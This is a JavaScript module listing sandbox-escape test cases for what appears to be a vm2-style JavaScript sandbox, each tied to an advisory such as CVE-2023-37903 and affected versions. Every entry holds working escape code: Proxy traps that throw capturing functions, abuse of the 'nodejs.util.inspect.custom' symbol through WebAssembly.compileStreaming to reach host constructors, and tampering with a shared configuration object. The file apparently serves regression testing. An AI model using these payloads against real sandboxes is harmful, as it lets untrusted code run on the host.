// Proxies of the code's that the library looks into, and what shows proxies of the library's.
'use strict';

module.exports = [
  {
    name: 'function-thrown-by-a-trap', advisory: 'before 3.6.11: what a trap throws is called by who looks', kind: 'VM', against: '3.6.4',
    code: ({ take }) => `let found;
      try { Buffer.from(new Proxy({}, { getOwnPropertyDescriptor() { throw (it) => { found ??= it; return it; }; } })); } catch (e) { e(() => {}); found = e(found); }
      try { Buffer.from(new Proxy({}, { getPrototypeOf() { throw (it) => { found = it; }; } })); } catch (e) { e(Buffer.from); }
      ${take('found.constructor')}`,
  },
  {
    name: 'shown-by-a-function-of-the-code', advisory: 'CVE-2023-37903', kind: 'VM', against: '3.9.19', options: { ambit: { jit: true } },
    code: ({ take }) => `let result;
      const it = { [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) => { result = ${take('inspect.constructor')}; }, valueOf: undefined, constructor: undefined };
      WebAssembly.compileStreaming(it).catch(() => {});
      (async () => { for (let i = 0; i < 20 && result === undefined; i++) await null; return result; })()`,
  },
  {
    name: 'symbols-of-the-host', advisory: 'GHSA-47x8-96vw-5wg6', kind: 'VM', against: '3.10.5', options: { ambit: { jit: true } },
    code: ({ take, climb }) => `${climb}
      let result;
      const shows = HostObject.getOwnPropertySymbols(Buffer.prototype).find((it) => it.description === 'nodejs.util.inspect.custom');
      const it = { [shows]: (depth, options, inspect) => { result = ${take('inspect.constructor')}; }, valueOf: undefined, constructor: undefined };
      WebAssembly.compileStreaming(it).catch(() => {});
      (async () => { for (let i = 0; i < 20 && result === undefined; i++) await null; return result; })()`,
  },
  {
    name: 'spread-symbols', advisory: 'before 3.10.4: spreading asks for all keys', kind: 'VM', against: '3.9.19', options: { ambit: { jit: true } },
    code: ({ take }) => `const { ...members } = Object.getOwnPropertyDescriptors(Buffer.prototype);
      let result;
      Function.prototype.value = (depth, options, inspect) => { result = ${take('inspect.constructor')}; };
      const { ...shown } = Buffer.prototype;
      for (const key in shown) delete shown[key];
      const it = { valueOf: undefined, constructor: undefined };
      Object.defineProperties(it, shown);
      WebAssembly.compileStreaming(it).catch(() => {});
      (async () => { for (let i = 0; i < 20 && result === undefined; i++) await null; return result; })()`,
  },
  {
    name: 'written-to-who-inherits', advisory: 'GHSA-c4cf-2hgv-2qv6', kind: 'VM', against: '3.11.2', reaches: 'changed: what it configured',
    options: (host) => ({ sandbox: { config: host.config } }),
    code: `const mine = Object.create(config); mine.role = 'admin'; Reflect.set(config.nested, 'limit', 1e9, {}); 1`,
  },
];
